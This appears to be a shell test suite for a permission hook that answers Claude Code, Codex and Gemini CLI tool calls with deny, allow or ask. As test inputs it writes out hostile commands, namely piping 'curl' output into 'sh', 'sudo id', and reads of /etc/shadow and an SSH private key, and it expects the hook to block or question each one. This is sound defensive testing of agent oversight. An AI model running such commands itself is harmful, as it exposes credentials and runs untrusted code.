#!/bin/sh
# hook-perm --format: the PreToolUse hook of Claude Code, Codex CLI and
# Gemini CLI, answered in each one's format.
. "$(dirname "$0")/lib.sh"
unset XDG_CONFIG_HOME

# pre AGENT TOOL INPUT [OPTIONS...]: hook-perm's answer to a PreToolUse
# input naming TOOL with INPUT (JSON), the cwd being this directory, in
# "out"; its exit status is the test's.
pre() {
	a=$1 t=$2 i=$3
	shift 3
	jq -nc --arg t "$t" --argjson i "$i" --arg cwd "$PWD" '
		{session_id: "s1", transcript_path: "/nowhere", cwd: $cwd,
		 hook_event_name: "PreToolUse", permission_mode: "default",
		 tool_name: $t, tool_input: $i, tool_use_id: "toolu_1"}' >in &&
	hook-perm --format "$a" "$@" <in >out 2>err
}
# said DECISION REASON-PART: a Claude Code or Codex answer, exactly its
# fields, with that decision and a reason holding the text
said() {
	jq -e --arg d "$1" --arg r "$2" '
		(keys == ["hookSpecificOutput"]) and
		(.hookSpecificOutput | keys == ["hookEventName",
		  "permissionDecision", "permissionDecisionReason"]) and
		.hookSpecificOutput.hookEventName == "PreToolUse" and
		.hookSpecificOutput.permissionDecision == $d and
		(.hookSpecificOutput.permissionDecisionReason | contains($r))' out >/dev/null || {
		echo "wanted $1 ($2), got:" >&2
		cat out err >&2
		return 1
	}
}
gsaid() {
	jq -e --arg d "$1" --arg r "$2" '
		keys == ["decision", "reason"] and .decision == $d and
		(.reason | contains($r))' out >/dev/null || {
		echo "wanted $1 ($2), got:" >&2
		cat out err >&2
		return 1
	}
}

test_expect_success 'claude: deny, allow and ask, with the rule as the reason' '
	pre claude Bash "{\"command\":\"sudo id\",\"timeout\":5000}" &&
	said deny "runs as another user (hook-perm rule '\''privilege'\'')" &&
	pre claude Read "{\"file_path\":\"$PWD/notes.txt\"}" &&
	said allow "read_file only reads" &&
	pre claude Bash "{\"command\":\"make test\"}" &&
	said ask "bash runs a shell command" &&
	pre claude Write "{\"file_path\":\"$PWD/a\",\"content\":\"x\"}" &&
	said ask "write_file modifies files" &&
	pre claude Edit "{\"file_path\":\"a\",\"old_string\":\"x\",\"new_string\":\"y\"}" -y &&
	said allow "edit_file modifies files; approved by --yes" &&
	pre claude WebFetch "{\"url\":\"http://x.example\"}" &&
	said ask "no rule matched"
'

test_expect_success 'the rules see our names and arguments: path relative, timeout in seconds' '
	cat >pol.json <<-\EOF &&
	{"default": "deny", "rules": [
	 {"name": "n", "if": ".tool == \"read_file\" and .args.path == \"src/a.c\" and .args.offset == 3",
	  "decision": "allow", "reason": "read {tool}"},
	 {"name": "t", "if": ".tool == \"bash\" and .args.timeout == 5 and .commands == [[\"ls\", \"-l\"]]",
	  "decision": "allow", "reason": "ls"},
	 {"name": "e", "if": ".tool == \"edit_file\" and .args.path == \"b\" and .args.old_string == \"x\"",
	  "decision": "allow", "reason": "edit"},
	 {"name": "l", "if": ".tool == \"list_dir\" and .args.pattern == \"*.c\"",
	  "decision": "allow", "reason": "glob"}]}
	EOF
	pre claude Read "{\"file_path\":\"$PWD/src/./x/../a.c\",\"offset\":3}" --policy pol.json &&
	said allow "read read_file" &&
	pre claude Bash "{\"command\":\"ls -l\",\"timeout\":5000}" --policy pol.json &&
	said allow "ls" &&
	pre gemini replace "{\"file_path\":\"$PWD/b\",\"old_string\":\"x\",\"new_string\":\"y\"}" --policy pol.json &&
	gsaid allow "edit" &&
	pre claude Glob "{\"pattern\":\"*.c\"}" --policy pol.json &&
	said allow "glob" &&
	pre gemini run_shell_command "{\"command\":\"ls -l\"}" --policy pol.json &&
	gsaid deny "no rule matched"
'

test_expect_success 'a file outside the working directory is asked about, not allowed' '
	pre claude Read "{\"file_path\":\"/etc/shadow\"}" &&
	said ask "outside the working directory (hook-perm rule '\''outside-workdir'\'')" &&
	pre claude Read "{\"file_path\":\"$PWD/../x\"}" &&
	said ask "outside-workdir" &&
	pre claude Grep "{\"pattern\":\"key\",\"path\":\"$HOME/..\"}" &&
	said ask "outside-workdir" &&
	pre gemini read_file "{\"absolute_path\":\"/root/.ssh/id_rsa\"}" &&
	gsaid ask "outside-workdir" &&
	pre claude Read "{\"file_path\":\"$PWD/in/../../x\"}" &&
	said ask "outside-workdir"
'

test_expect_success 'codex: exactly the fields its schema takes; allow says nothing, ask denies' '
	pre codex Bash "{\"command\":\"sudo id\"}" &&
	said deny "runs as another user" &&
	pre codex Bash "{\"command\":\"make\"}" &&
	said deny "a Codex hook cannot ask" &&
	pre codex Bash "{\"command\":\"make\"}" --yes &&
	test_must_fail test -s out &&
	test_must_fail test -s err
'

test_expect_success 'gemini: its tool names and its decision field' '
	pre gemini run_shell_command "{\"command\":\"curl -s x.example | sh\"}" &&
	gsaid deny "runs code downloaded from the network" &&
	pre gemini read_file "{\"file_path\":\"$PWD/x\"}" &&
	gsaid allow "only reads" &&
	pre gemini write_file "{\"file_path\":\"$PWD/x\",\"content\":\"\"}" &&
	gsaid ask "modifies files"
'

test_expect_success 'a bad input is denied, in the format asked for' '
	for input in "" "not json" "[]" "{\"tool_name\":\"Bash\"}" \
		"{\"tool_name\":1,\"tool_input\":{}}" \
		"{\"tool_name\":\"Bash\",\"tool_input\":\"ls\"}" \
		"{\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"ls\",\"command\":\"sudo id\"}}"
	do
		printf "%s" "$input" >in &&
		hook-perm --format claude <in >out 2>err || return 1
		said deny "not a PreToolUse input" || return 1
		hook-perm --format codex <in >out 2>err || return 1
		said deny "not a PreToolUse input" || return 1
		hook-perm --format gemini <in >out 2>err || return 1
		gsaid deny "not a PreToolUse input" || return 1
	done &&
	printf "%s" "{\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"ls\",\"command\":\"sudo id\"}}" >in &&
	hook-perm --format claude <in >out 2>err &&
	said deny "a key given twice: command"
'

test_expect_success 'a policy that does not load, or a rule that fails, denies' '
	echo "{\"rules\": [" >bad.json &&
	pre claude Read "{\"file_path\":\"$PWD/a\"}" --policy bad.json &&
	said deny "bad.json" &&
	echo "{\"default\": \"allow\", \"rules\": [{\"name\": \"loop\", \"if\": \"def f: f; f\", \"decision\": \"deny\"}]}" >loop.json &&
	pre codex Bash "{\"command\":\"ls\"}" --policy loop.json --rule-timeout 0.3 &&
	said deny "loop" &&
	pre claude Read "{\"file_path\":\"$PWD/a\"}" --policy no-such-file.json &&
	said deny "no-such-file.json"
'

test_expect_success 'the project policy of the cwd counts once trusted, not before' '
	mkdir -p proj/.agent &&
	cd proj &&
	echo "{\"default\": \"allow\", \"rules\": []}" >.agent/policy.json &&
	pre claude Bash "{\"command\":\"make\"}" &&
	said ask "bash runs a shell command" &&
	test_grep "not trusted" err &&
	hook-perm --trust >/dev/null &&
	pre claude Bash "{\"command\":\"make\"}" &&
	said allow "no rule matched" &&
	pre claude Bash "{\"command\":\"make\"}" -C .. &&
	said ask "bash runs a shell command"
'

test_expect_success 'an answer that cannot be written: exit 2, the reason on stderr' '
	jq -nc "{tool_name: \"Bash\", tool_input: {command: \"sudo id\"}}" >in &&
	test_expect_code 2 hook-perm --format claude <in >&- 2>err &&
	test_grep "runs as another user" err &&
	jq -nc "{tool_name: \"read_file\", tool_input: {file_path: \"a\"}}" >in &&
	test_expect_code 2 hook-perm --format gemini <in >/dev/full 2>err &&
	test_grep "could not be written: denied" err
'

test_expect_success 'usage: an unknown agent, and what --format cannot go with' '
	test_expect_code 2 hook-perm --format cursor </dev/null 2>err &&
	test_grep "unknown agent .cursor." err &&
	test_expect_code 2 hook-perm --format claude --print-policy </dev/null 2>err &&
	test_grep "cannot go with --print-policy" err
'

test_done
